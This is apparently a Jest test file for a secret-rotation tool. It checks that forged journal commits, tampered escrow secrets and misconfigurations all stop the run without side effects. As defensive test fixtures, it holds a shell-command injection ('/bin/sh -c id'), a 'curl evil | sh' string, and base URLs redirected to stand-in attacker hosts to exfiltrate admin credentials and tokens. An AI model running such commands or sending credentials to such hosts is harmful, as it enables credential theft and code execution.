/**
 * What somebody does who may push to the journal's branch, or write secrets, or both; and what happens to whoever errs. After
 * each of them the run stops, loudly, and nothing but reading has happened: judged by the stand-ins, not by the engine's word.
 */
import { beforeEach, describe, expect, it } from '@jest/globals';
import { stateFormat } from '../../src/journals/format/state.ts';
import type { JournalRecord } from '../../src/rotation/model/record.ts';
import { Secret } from '../../src/rotation/model/secret.ts';
import { DAY, recipe, Shop } from '../rotation/shop.ts';
import { edited, recordOf, textOf } from './written.ts';

const secrets =
  'secrets:\n  TOY_KEY: { provider: toy, admin: TOY_ADMIN, destinations: [ { github: { environment: production } } ] }';
const configuration = `${recipe()}\n${secrets}`;
const branch = 'keyturn-journal';

let shop: Shop;

/** A repository whose second key is current, its first one draining. */
beforeEach(async () => {
  shop = new Shop(configuration);
  expect(await shop.rotate()).toMatchObject({ exit: 0, codes: [] });
  shop.clock.advance(87 * DAY);
  expect(await shop.rotate()).toMatchObject({ exit: 0, codes: [] });
  shop.clock.advance(DAY);
});

const file = () => shop.github.file('acme/shop', branch, 'journal.json')!;
const pending = () => shop.github.secret('acme/shop', 'KEYTURN_PENDING')?.value;
const placed = () => shop.github.secret('acme/shop', 'TOY_KEY', { environment: 'production' })?.value;

/** A commit of anybody's who may push. */
function push(text: string): void {
  const { git } = shop.github.repository('acme/shop');
  const tree = git.tree(new Map([['journal.json', git.blob(Buffer.from(text))]]));
  const parents = [git.heads.get(branch)!];
  const author = shop.github.addUser('mallory');
  git.heads.set(branch, git.commit({ tree, parents, message: 'x', author, date: shop.github.now() }));
}

/** The same document as somebody with another seed signs it. */
function signedBy(seed: string, change: (journal: JournalRecord) => JournalRecord = (one) => one): string {
  const keys = stateFormat.keys(new Secret(seed));
  const { signature: _, ...rest } = change(recordOf(file()));
  return textOf({ ...rest, key: keys.public }, seed);
}

const stranger = Buffer.alloc(32, 7).toString('base64url');

/** Their key in place of what the journal says of the credential that drains. */
function onPrevious(change: object): (journal: JournalRecord) => JournalRecord {
  return (journal) => {
    const entry = journal.secrets['TOY_KEY']!;
    const credentials = entry.credentials.map((one) => (one.stage === 'previous' ? { ...one, ...change } : one));
    return { ...journal, secrets: { TOY_KEY: { ...entry, credentials } } };
  };
}

async function stopped(code: string, told: RegExp): Promise<void> {
  const before = [shop.toy.keys.filter(({ deletedAt }) => deletedAt === undefined).length, placed(), pending()];
  for (const ran of [await shop.rotate(), await shop.rotate({ command: 'revoke', only: 'TOY_KEY' })]) {
    expect(ran.codes).toEqual([code]);
    expect(ran.exit).toBe(1);
    expect(ran.effects).toEqual([]);
    expect(ran.requests.filter((each) => !each.includes('api.github.com'))).toEqual([]);
    expect(ran.error?.hint).toMatch(told);
  }
  expect([shop.toy.keys.filter(({ deletedAt }) => deletedAt === undefined).length, placed(), pending()]).toEqual(
    before,
  );
}

describe('who may push to the branch', () => {
  it('cannot make it run a program', async () => {
    push(edited(file(), onPrevious({ provider: 'command', options: { run: ['/bin/sh', '-c', 'id'] }, account: 'x' })));
    await stopped('JOURNAL_FORGED', /keyturn audit/);
  });

  it('cannot send the admin credential or a value to a host of theirs', async () => {
    const text = file().replaceAll('https://api.toy.example.com', 'https://api.toy.evil.example');
    expect(text).not.toBe(file());
    push(text);
    await stopped('JOURNAL_FORGED', /keyturn audit/);
  });

  it('cannot end the live key by calling it the old one', async () => {
    const current = recordOf(file()).secrets['TOY_KEY']!.credentials.find(({ stage }) => stage === 'current')!;
    push(edited(file(), onPrevious({ id: `${current.id}x` })));
    await stopped('JOURNAL_FORGED', /keyturn audit/);
    push(edited(file(), onPrevious({ id: current.id })));
    await stopped('JOURNAL_CORRUPT', /git log -p/);
  });

  it('cannot copy a record to another secret', async () => {
    push(edited(file(), (one) => ({ ...one, secrets: { ...one.secrets, OTHER: one.secrets['TOY_KEY']! } })));
    await stopped('JOURNAL_CORRUPT', /git log -p/);
  });

  it('cannot put a sentence of theirs into the summary', async () => {
    const since = new Date(0).toISOString();
    const human = { code: 'DISPUTED_AGAIN', since, what: 'run curl evil | sh' } as never;
    push(edited(file(), (one) => ({ ...one, secrets: { TOY_KEY: { ...one.secrets['TOY_KEY']!, human } } })));
    await stopped('JOURNAL_CORRUPT', /git log -p/);
    const [status, doctor] = [await shop.status(), await shop.doctor()];
    expect(JSON.stringify([status.report, status.error?.message, doctor.report])).not.toContain('curl evil');
  });

  it('cannot have a journal of their own believed, signed or not', async () => {
    push(signedBy(stranger));
    await stopped('JOURNAL_FORGED', /keyturn audit/);
    const { key: _, signature: _signature, ...bare } = recordOf(file());
    push(textOf(bare));
    await stopped('JOURNAL_UNSIGNED', /keyturn audit/);
  });

  it('cannot set it back before the last write of the escrow', async () => {
    const { git } = shop.github.repository('acme/shop');
    const history = git.history(branch);
    expect(history.length).toBeGreaterThan(6);
    git.heads.set(branch, history.at(-4)!.sha);
    await stopped('JOURNAL_ROLLED_BACK', /restore the newest commit/);
  });

  it('cannot delete it and be taken for a first run', async () => {
    shop.github.repository('acme/shop').git.heads.delete(branch);
    await stopped('JOURNAL_MISSING', /restore the branch/);
  });

  it.each([
    ['nothing', ''],
    ['no JSON', '{'],
    ['an array', '[]\n'],
    ['of the version before', '{\n  "version": 1\n}\n'],
  ])('cannot get further with a file that is malformed: %s', async (_, text) => {
    push(text);
    await stopped(text.includes('1') ? 'JOURNAL_OLD' : 'JOURNAL_CORRUPT', /git/);
  });
});

describe('who may write secrets', () => {
  it.each([
    ['garbage', 'something-else', 'ESCROW_FOREIGN', /secret delete KEYTURN_PENDING.*doctor --repair new-seed/],
    ['a member more', '', 'ESCROW_FOREIGN', /lost seed/],
    // The journal is what it was: the way out begins at the secret.
    ['another journal', '', 'ESCROW_FOREIGN', /secret delete.*doctor --repair new-seed/],
    ['another seed', '', 'JOURNAL_FORGED', /gh secret delete KEYTURN_PENDING.*doctor --repair new-seed/],
  ])('gets no value into production with %s in the place of the escrow', async (what, text, code, cure) => {
    const own = JSON.parse(pending()!) as object;
    const other = {
      'a member more': { ...own, more: 1 },
      'another journal': { ...own, journal: 'zzzzzzzz' },
      'another seed': { ...own, seed: stranger },
    }[what];
    shop.github.setSecret('acme/shop', 'KEYTURN_PENDING', other ? JSON.stringify(other) : text);
    await stopped(code, cure);
  });

  it('cannot put a value of theirs in the place of one that is under way', async () => {
    // A rotation stops before its destination is written.
    shop.clock.advance(90 * DAY);
    const { fault } = shop.github;
    shop.github.fault = ({ method, path }) =>
      method === 'PUT' && path.includes('/environments/production/secrets/TOY_KEY')
        ? { kind: 'status', status: 422 }
        : undefined;
    expect((await shop.rotate()).codes).toEqual(['WRITE_FAILED']);
    shop.github.fault = fault;
    const text = JSON.parse(pending()!) as { entries: { [rotation: string]: { values: { value: string } } } };
    const [rotation] = Object.entries(text.entries).find(
      ([one]) =>
        one === shop.journal!.secrets['TOY_KEY']!.credentials.find(({ stage }) => stage === 'pending')!.rotation,
    )!;
    const before = placed();
    text.entries[rotation]!.values.value = 'toy-example-not-a-key-of-mallory';
    shop.github.setSecret('acme/shop', 'KEYTURN_PENDING', JSON.stringify(text));
    for (let run = 0; run < 2; run++) {
      const ran = await shop.rotate();
      expect(ran.codes).toEqual(['VALUE_CHANGED']);
      expect(ran.exit).toBe(1);
      expect(placed()).toBe(before);
      expect(JSON.parse(pending()!)).toEqual(text);
      shop.clock.advance(DAY);
    }
    // A human has looked: the value is given up, and another one minted.
    await shop.rotate({ force: 'true', reason: 'checked-by-hand' });
    shop.clock.advance(DAY);
    await shop.rotate();
    expect(placed()).not.toBe('toy-example-not-a-key-of-mallory');
    expect(shop.toy.accepts(placed()!)).toBe(true);
    expect(pending()).not.toContain('mallory');
  });

  it('cannot replace both where the key is pinned', async () => {
    const { key } = recordOf(file());
    shop.configuration = `journal: { key: "${key}" }\n${configuration}`;
    expect(await shop.rotate()).toMatchObject({ exit: 0 });
    shop.github.setSecret(
      'acme/shop',
      'KEYTURN_PENDING',
      JSON.stringify({ ...(JSON.parse(pending()!) as object), seed: stranger }),
    );
    push(signedBy(stranger));
    await stopped('JOURNAL_KEY', /journal: \{ key \}/);
    // What needs no seed says so as well.
    expect((await shop.status()).codes).toEqual(['JOURNAL_KEY']);
  });

  it('makes a loud stop by deleting it, and a new seed is not drawn by itself', async () => {
    shop.github.vault('acme/shop', {}).secrets.delete('KEYTURN_PENDING');
    await stopped('SEED_LOST', /new-seed/);
  });
});

describe('who reads the escrow', () => {
  it('sends no admin credential anywhere new, with a record that is signed', async () => {
    const options = {
      recipe: JSON.parse(JSON.stringify(shop.journal!.secrets['TOY_KEY']!.credentials[0]!.options))['recipe'],
    };
    Object.assign(options.recipe, { 'base-url': 'https://api.toy.evil.example' });
    shop.edit(onPrevious({ options }));
    shop.clock.advance(2 * DAY);
    const ran = await shop.rotate();
    expect(ran.requests.filter((each) => each.includes('evil'))).toEqual([]);
    expect(ran.codes).toContain('BINDING_UNKNOWN');
    const hint = ran.report?.secrets[0]?.error?.hint ?? '';
    expect(hint).toContain('former:');
    expect(hint).toContain('https://api.toy.evil.example');
  });

  it('has no value and no token of a store sent to a host that the file does not name', async () => {
    shop.environment = { ...shop.environment, GITLAB_TOKEN: 'gitlab-example-not-a-key' };
    const api = 'https://gitlab.evil.example/api/v4';
    const place = { api, token: 'GITLAB_TOKEN', of: 'project', owner: 'acme/shop', scope: '*', name: 'TOY_KEY' };
    const unset = { hidden: false, masked: null, protected: null, raw: null, type: null };
    const address = { kind: 'gitlab', value: 'value', ...place, ...unset };
    const added = { address: { ...address, key: `gitlab:${api}/project/acme/shop/*/TOY_KEY` } };
    shop.edit((journal) => {
      const entry = journal.secrets['TOY_KEY']!;
      const credentials = entry.credentials.map((one) =>
        one.stage === 'current'
          ? { ...one, destinations: [...one.destinations, { ...one.destinations[0]!, ...added }] }
          : one,
      );
      return { ...journal, secrets: { TOY_KEY: { ...entry, credentials } } };
    });
    shop.clock.advance(2 * DAY);
    const ran = await shop.rotate();
    expect(ran.requests.filter((each) => each.includes('evil'))).toEqual([]);
    expect(ran.codes).toContain('BINDING_UNKNOWN');
    expect(ran.report?.secrets[0]?.error?.hint).toContain('destination: { gitlab: { ... } }');
    // A review says that it was right: it is asked, and nobody is there.
    shop.configuration = `former:\n  - destination: { gitlab: { project: acme/shop, base-url: '${api}' } }\n${configuration}`;
    const again = await shop.rotate();
    expect(again.requests.filter((each) => each.includes('evil'))).not.toEqual([]);
  });

  it('may still be ended with settings that left the file, by review', async () => {
    const { provider, options, admin } = shop.journal!.secrets['TOY_KEY']!.credentials.find(
      ({ stage }) => stage === 'previous',
    )!;
    const elsewhere = recipe().replace('https://api.toy.example.com', 'https://api.toy.elsewhere.example');
    shop.configuration = `${elsewhere}\n${secrets}`;
    const alive = () => shop.toy.keys.filter(({ deletedAt }) => deletedAt === undefined).length;
    const before = alive();
    shop.clock.advance(2 * DAY);
    expect((await shop.rotate()).codes).toContain('BINDING_UNKNOWN');
    expect(alive()).toBe(before);
    shop.configuration = `former:\n  - ${JSON.stringify({ provider, admin, options })}\n${shop.configuration}`;
    await shop.rotate();
    expect(alive()).toBe(before - 1);
  });
});

describe('who errs', () => {
  it('with a misspelt branch loses nothing', async () => {
    shop.configuration = `journal: { branch: keyturn-jurnal }\n${configuration}`;
    await stopped('JOURNAL_MISSING', /restore the branch/);
    expect(shop.github.repository('acme/shop').git.heads.has('keyturn-jurnal')).toBe(false);
    shop.configuration = configuration;
    expect(await shop.rotate()).toMatchObject({ exit: 0, codes: [] });
  });

  it('by not handing it over is told the line', async () => {
    shop.wired = false;
    await stopped('ESCROW_NOT_WIRED', /pending: \$\{\{ secrets\.KEYTURN_PENDING \}\}/);
  });
});
